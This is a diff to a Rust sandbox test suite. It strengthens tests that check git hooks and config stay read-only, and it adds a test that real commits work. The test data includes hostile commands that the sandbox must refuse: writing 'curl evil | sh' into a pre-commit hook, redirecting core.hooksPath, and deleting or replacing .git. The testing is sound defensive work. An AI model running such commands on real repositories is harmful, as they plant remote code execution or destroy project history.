@@ -324,20 +324,6 @@ async fn git_hooks_and_config_are_read_only() {
     std::fs::write(jail.root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
     std::fs::write(jail.root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
     let hook = jail.root.join(".git/hooks/pre-commit");
-    for command in [
-        "echo 'curl evil | sh' > .git/hooks/pre-commit",
-        "echo '[core] hooksPath = /tmp' >> .git/config",
-        "rm .git/config",
-        "mv .git/hooks .git/old-hooks",
-    ] {
-        let output = jail.run(command).await;
-        assert_refused(&output);
-    }
-    assert!(!hook.exists());
-    assert_eq!(
-        std::fs::read_to_string(jail.root.join(".git/config")).unwrap(),
-        "[core]\n\tbare = false\n"
-    );
     let output = jail
         .run("echo x > .git/objects/new && echo ref > .git/HEAD.lock && rm .git/HEAD.lock && echo git-ok")
         .await;
@@ -347,6 +333,50 @@ async fn git_hooks_and_config_are_read_only() {
         output.text
     );
     assert!(jail.root.join(".git/objects/new").exists());
+    for command in [
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "echo '[core] hooksPath = /tmp' >> .git/config",
+        "rm .git/config",
+        "mv .git/hooks .git/old-hooks",
+        "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
+        "rm -rf .git && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
+    ] {
+        let output = jail.run(command).await;
+        assert_refused(&output);
+    }
+    assert!(!hook.exists());
+    assert!(!jail.root.join(".git-old").exists());
+    assert_eq!(
+        std::fs::read_to_string(jail.root.join(".git/config")).unwrap(),
+        "[core]\n\tbare = false\n"
+    );
+}
+
+/// A real `git commit` works inside the sandbox; a hook it tries to plant does not land.
+#[tokio::test]
+async fn git_commits_work_in_the_sandbox() {
+    let Some(jail) = jail() else { return };
+    let Ok(git) = which("git") else {
+        eprintln!("SKIPPED: git is not installed");
+        return;
+    };
+    let status = std::process::Command::new(&git)
+        .args(["init", "-q"])
+        .current_dir(&jail.root)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let output = jail
+        .run("echo hi > file && git add file && git -c user.email=a@b.c -c user.name=A commit -qm first && git log --oneline | wc -l")
+        .await;
+    assert!(!output.is_error, "{}", output.text);
+    assert!(output.text.starts_with("1\n"), "{}", output.text);
+    if SandboxProbe::detect().namespaces {
+        let output = jail.run("git config core.hooksPath /tmp/evil").await;
+        assert!(output.is_error, "{}", output.text);
+        let config = std::fs::read_to_string(jail.root.join(".git/config")).unwrap();
+        assert!(!config.contains("hooksPath"), "{config}");
+    }
 }
 
 /// Killing the process that started a sandboxed command kills the command too (the helper arms
